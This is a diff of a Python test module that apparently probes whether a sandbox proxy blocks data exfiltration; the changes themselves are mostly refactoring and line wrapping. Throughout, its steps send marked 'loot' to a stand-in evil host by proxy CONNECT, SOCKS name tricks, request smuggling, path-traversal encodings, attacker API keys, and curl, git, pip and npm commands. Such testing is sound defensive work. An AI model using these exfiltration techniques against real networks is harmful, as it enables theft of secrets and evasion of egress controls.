@@ -4,10 +4,11 @@ Every payload begins with `MARK-<step>-`, so the far side can tell which way it 
 holds no secret.
 """
 
+# ruff: noqa: E501 - commands and requests read better whole
+
 import base64
 import ctypes
 import gzip
-import http.client
 import json
 import os
 import random
@@ -39,10 +40,10 @@ def _context() -> ssl.SSLContext:
 
 
 def _https(address: "tuple[str, int]", server_name: "str | None", request: bytes) -> bytes:
-    with socket.create_connection(address, WAIT) as plain:
-        with _context().wrap_socket(plain, server_hostname=server_name) as secure:
-            secure.sendall(request)
-            return _drain(secure)
+    plain = socket.create_connection(address, WAIT)
+    with _context().wrap_socket(plain, server_hostname=server_name) as secure:
+        secure.sendall(request)
+        return _drain(secure)
 
 
 def _drain(peer: socket.socket) -> bytes:
@@ -61,14 +62,14 @@ def _post(host: str, body: bytes, path: str = "/collect", extra: str = "", metho
     return head.encode("latin-1") + body
 
 
-def _proxy(targets: dict) -> "tuple[str, int]":
+def _proxy() -> "tuple[str, int]":
     url = urllib.parse.urlsplit(os.environ.get("HTTPS_PROXY") or os.environ.get("https_proxy") or "")
     return (url.hostname or "100.64.0.1", url.port or 3128)
 
 
-def _through_proxy(targets: dict, authority: str, then: bytes, tls_name: "str | None" = None) -> bytes:
+def _through_proxy(authority: str, then: bytes, tls_name: "str | None" = None) -> bytes:
     """CONNECT to `authority`, then speak: TLS where a name is given."""
-    with socket.create_connection(_proxy(targets), WAIT) as plain:
+    with socket.create_connection(_proxy(), WAIT) as plain:
         plain.settimeout(WAIT)
         plain.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode("latin-1"))
         answer = plain.recv(4096)
@@ -108,13 +109,13 @@ def urllib_with_proxy_variables(targets: dict, loot: Loot) -> object:
 @step("send")
 def connect_to_evil_host(targets: dict, loot: Loot) -> object:
     evil = targets["evil"]
-    return _through_proxy(targets, f"{evil}:443", _post(evil, _payload("connect_to_evil_host", loot)), evil)
+    return _through_proxy(f"{evil}:443", _post(evil, _payload("connect_to_evil_host", loot)), evil)
 
 
 def _connect_step(label: str, authority: str) -> None:
     def action(targets: dict, loot: Loot) -> object:
         named = authority.format(**targets)
-        return _through_proxy(targets, named, _post(targets["evil"], _payload(label, loot)), targets["evil"])
+        return _through_proxy(named, _post(targets["evil"], _payload(label, loot)), targets["evil"])
 
     action.__name__ = label
     step("send")(action)
@@ -138,7 +139,7 @@ _connect_step("connect_allowed_then_evil_name", "{allowed}:443")
 
 @step("send")
 def absolute_form_to_evil_host(targets: dict, loot: Loot) -> object:
-    with socket.create_connection(_proxy(targets), WAIT) as plain:
+    with socket.create_connection(_proxy(), WAIT) as plain:
         evil = targets["evil"]
         plain.sendall(_post(evil, _payload("absolute_form_to_evil_host", loot), f"http://{evil}/collect"))
         return _refused(_drain(plain))
@@ -146,17 +147,17 @@ def absolute_form_to_evil_host(targets: dict, loot: Loot) -> object:
 
 @step("send")
 def socks_to_evil_host(targets: dict, loot: Loot) -> object:
-    return _socks(targets, targets["evil"].encode(), _payload("socks_to_evil_host", loot))
+    return _socks(targets["evil"].encode(), _payload("socks_to_evil_host", loot))
 
 
 @step("send")
 def socks_with_nul(targets: dict, loot: Loot) -> object:
     name = targets["evil"].encode() + b"\0." + targets["allowed"].encode()
-    return _socks(targets, name, _payload("socks_with_nul", loot))
+    return _socks(name, _payload("socks_with_nul", loot))
 
 
-def _socks(targets: dict, name: bytes, data: bytes) -> object:
-    with socket.create_connection(_proxy(targets), WAIT) as plain:
+def _socks(name: bytes, data: bytes) -> object:
+    with socket.create_connection(_proxy(), WAIT) as plain:
         plain.settimeout(WAIT)
         plain.sendall(b"\x05\x01\x00")
         if plain.recv(2) != b"\x05\x00":
@@ -195,7 +196,12 @@ _address_step("unused_fake_address", "198.18.77.77", 443)
 @step("send")
 def udp_everywhere(targets: dict, loot: Loot) -> object:
     data = _payload("udp_everywhere", loot, 1000)
-    goals = [("127.0.0.1", targets["port"]), (targets["host_address"], targets["port"]), ("100.64.0.1", 443), ("8.8.8.8", 53)]
+    goals = [
+        ("127.0.0.1", targets["port"]),
+        (targets["host_address"], targets["port"]),
+        ("100.64.0.1", 443),
+        ("8.8.8.8", 53),
+    ]
     answers = []
     for goal in goals:
         with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
@@ -283,25 +289,27 @@ def _ask(server: str, name: str, kind: int) -> bytes:
 
 
 @step("send")
-def dns_over_tcp(targets: dict, _loot: Loot) -> object:
+def dns_over_tcp(_targets: dict, _loot: Loot) -> object:
     with socket.create_connection(("8.8.8.8", 53), WAIT) as tcp:
-        tcp.sendall(b"\x00\x1d\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04evil\x07example\x00\x00\x10\x00\x01")
+        tcp.sendall(
+            b"\x00\x1d\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04evil\x07example\x00\x00\x10\x00\x01"
+        )
         return _drain(tcp)
 
 
 # Through a host that is allowed
 
 
-def _ask_allowed(targets: dict, host: str, request: bytes) -> bytes:
+def _ask_allowed(host: str, request: bytes) -> bytes:
     return _https((host, 443), host, request)
 
 
 @step("send")
-def other_account_on_the_allowed_host(targets: dict, loot: Loot) -> object:
+def other_account_on_the_allowed_host(targets: dict, _loot: Loot) -> object:
     """The attacker's own key: files would land in the attacker's account (THREATS.md 3.6)."""
     host = targets["allowed"]
     extra = "x-api-key: sk-attacker\r\nAuthorization: Bearer sk-attacker\r\nX-Api-Key: sk-attacker-again\r\n"
-    return _ask_allowed(targets, host, _post(host, b"MARK-other_account", "/v1/files", extra))
+    return _ask_allowed(host, _post(host, b"MARK-other_account", "/v1/files", extra))
 
 
 @step("send")
@@ -311,7 +319,7 @@ def placeholder_in_the_wrong_places(targets: dict, _loot: Loot) -> object:
     extra = f"Cookie: key={held}\r\nReferer: https://x/{held}\r\nX-Copy: {held}\r\nX-Coded: {coded}\r\n"
     body = json.dumps({"note": "MARK-placeholder", "key": held, "coded": coded}).encode()
     path = f"/v1/messages?key={urllib.parse.quote(held)}&{urllib.parse.quote(coded)}"
-    return _ask_allowed(targets, host, _post(host, body, path, extra))
+    return _ask_allowed(host, _post(host, body, path, extra))
 
 
 @step("send")
@@ -323,13 +331,15 @@ def placeholder_to_evil_host(targets: dict, _loot: Loot) -> object:
 @step("send")
 def host_header_of_another(targets: dict, loot: Loot) -> object:
     request = _post(targets["evil"], _payload("host_header_of_another", loot))
-    return _refused(_ask_allowed(targets, targets["allowed"], request))
+    return _refused(_ask_allowed(targets["allowed"], request))
 
 
 @step("send")
 def server_name_of_another(targets: dict, loot: Loot) -> object:
     evil = targets["evil"]
-    return _refused(_https((targets["allowed"], 443), evil, _post(evil, _payload("server_name_of_another", loot))))
+    return _refused(
+        _https((targets["allowed"], 443), evil, _post(evil, _payload("server_name_of_another", loot)))
+    )
 
 
 @step("send")
@@ -337,26 +347,31 @@ def second_request_hidden_in_the_first(targets: dict, loot: Loot) -> object:
     host = targets["read_only"]
     hidden = _post(host, _payload("second_request_hidden", loot, 200), "/private")
     both = f"POST /open HTTP/1.1\r\nHost: {host}\r\nContent-Length: {len(hidden) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n"
-    return _refused(_ask_allowed(targets, host, both.encode() + b"0\r\n\r\n" + hidden))
+    return _refused(_ask_allowed(host, both.encode() + b"0\r\n\r\n" + hidden))
 
 
 @step("send")
 def post_where_only_get_is_allowed(targets: dict, loot: Loot) -> object:
     host = targets["read_only"]
     answers = [
-        _ask_allowed(targets, host, _post(host, _payload("post_where_only_get", loot), "/open/x", "", method))
+        _ask_allowed(host, _post(host, _payload("post_where_only_get", loot), "/open/x", "", method))
         for method in ("POST", "PUT", "PATCH", "DELETE")
     ]
     return _refused(*answers)
 
 
 @step("send")
-def path_outside_the_rule(targets: dict, loot: Loot) -> object:
+def path_outside_the_rule(targets: dict, _loot: Loot) -> object:
     host = targets["read_only"]
     mark = "MARK-path_outside_the_rule"
-    paths = [f"/private/{mark}", f"/open/../private/{mark}", f"/open/%2e%2e/private/{mark}", f"/open%2f..%2fprivate/{mark}"]
+    paths = [
+        f"/private/{mark}",
+        f"/open/../private/{mark}",
+        f"/open/%2e%2e/private/{mark}",
+        f"/open%2f..%2fprivate/{mark}",
+    ]
     paths += [f"//private/{mark}", f"/open/..;/private/{mark}", f"/open\\..\\private/{mark}"]
-    return _refused(*[_ask_allowed(targets, host, _post(host, b"", path, "", "GET")) for path in paths])
+    return _refused(*[_ask_allowed(host, _post(host, b"", path, "", "GET")) for path in paths])
 
 
 @step("send")
@@ -371,7 +386,7 @@ def plain_http_to_the_host_of_the_key(targets: dict, loot: Loot) -> object:
 def upgrade_to_a_tunnel(targets: dict, loot: Loot) -> object:
     host = targets["read_only"]
     extra = "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: eA==\r\nSec-WebSocket-Version: 13\r\n"
-    return _refused(_ask_allowed(targets, host, _post(host, _payload("upgrade", loot), "/private", extra, "GET")))
+    return _refused(_ask_allowed(host, _post(host, _payload("upgrade", loot), "/private", extra, "GET")))
 
 
 @step("send")
@@ -379,8 +394,13 @@ def reflected_key(targets: dict, loot: Loot) -> object:
     """Ask a service that echoes what it gets, and keep the answer: the injected key may be in it."""
     host = targets["echo"]
     answers = []
-    for method, extra in (("GET", ""), ("POST", "Accept-Encoding: gzip\r\n"), ("TRACE", ""), ("GET", "Range: bytes=5-\r\n")):
-        answers.append(_ask_allowed(targets, host, _post(host, b"", "/headers", extra, method)))
+    for method, extra in (
+        ("GET", ""),
+        ("POST", "Accept-Encoding: gzip\r\n"),
+        ("TRACE", ""),
+        ("GET", "Range: bytes=5-\r\n"),
+    ):
+        answers.append(_ask_allowed(host, _post(host, b"", "/headers", extra, method)))
     return loot.add("echo", b"\n".join(answers))
 
 
@@ -388,7 +408,7 @@ def reflected_key(targets: dict, loot: Loot) -> object:
 def proxy_headers(targets: dict, _loot: Loot) -> object:
     host = targets["allowed"]
     extra = "Proxy-Authorization: Basic TUFSSw==\r\nX-Forwarded-For: 1.2.3.4\r\nForwarded: for=1.2.3.4\r\nProxy-Connection: x\r\n"
-    return bool(_ask_allowed(targets, host, _post(host, b"", "/api/hello", extra, "GET")))
+    return bool(_ask_allowed(host, _post(host, b"", "/api/hello", extra, "GET")))
 
 
 # By the tools a developer has
@@ -399,7 +419,9 @@ def _tool_step(label: str, *argv: str) -> None:
         data = urllib.parse.quote_from_bytes(_payload(label, loot, 300), safe="")
         words = [word.format(data=data, **targets) for word in argv]
         quiet = {**os.environ, "GIT_TERMINAL_PROMPT": "0"}
-        done = subprocess.run(words, capture_output=True, timeout=10, check=False, stdin=subprocess.DEVNULL, env=quiet)
+        done = subprocess.run(
+            words, capture_output=True, timeout=10, check=False, stdin=subprocess.DEVNULL, env=quiet
+        )
         return done.stdout[:100] if done.returncode == 0 else None
 
     action.__name__ = label
@@ -408,12 +430,46 @@ def _tool_step(label: str, *argv: str) -> None:
 
 _tool_step("curl", "curl", "-sSk", "-m", "5", "https://{evil}/?{data}")
 _tool_step("curl_without_proxy", "curl", "-sSk", "-m", "5", "--noproxy", "*", "https://{evil}/?{data}")
-_tool_step("curl_resolve", "curl", "-sSk", "-m", "5", "--noproxy", "*", "--resolve", "{allowed}:443:127.0.0.1", "https://{allowed}/MARK-resolve")
-_tool_step("curl_connect_to", "curl", "-sSk", "-m", "5", "--connect-to", "::{evil}:443", "https://{allowed}/MARK-connect-to")
+_tool_step(
+    "curl_resolve",
+    "curl",
+    "-sSk",
+    "-m",
+    "5",
+    "--noproxy",
+    "*",
+    "--resolve",
+    "{allowed}:443:127.0.0.1",
+    "https://{allowed}/MARK-resolve",
+)
+_tool_step(
+    "curl_connect_to",
+    "curl",
+    "-sSk",
+    "-m",
+    "5",
+    "--connect-to",
+    "::{evil}:443",
+    "https://{allowed}/MARK-connect-to",
+)
 _tool_step("git_push", "git", "push", "https://{evil}/MARK-git.git", "HEAD:refs/heads/x")
 _tool_step("git_push_over_ssh", "git", "push", "ssh://git@{evil}/MARK-git.git", "HEAD")
 _tool_step("git_clone_with_data", "git", "clone", "-q", "https://{evil}/{data}.git", "/tmp/clone")
-_tool_step("pip_other_index", sys.executable, "-m", "pip", "download", "-q", "--retries", "0", "--timeout", "3", "-i", "https://{evil}/{data}", "x")
+_tool_step(
+    "pip_other_index",
+    sys.executable,
+    "-m",
+    "pip",
+    "download",
+    "-q",
+    "--retries",
+    "0",
+    "--timeout",
+    "3",
+    "-i",
+    "https://{evil}/{data}",
+    "x",
+)
 _tool_step("npm_other_registry", "npm", "view", "--fetch-retries=0", "--registry=https://{evil}/{data}", "x")
 
 
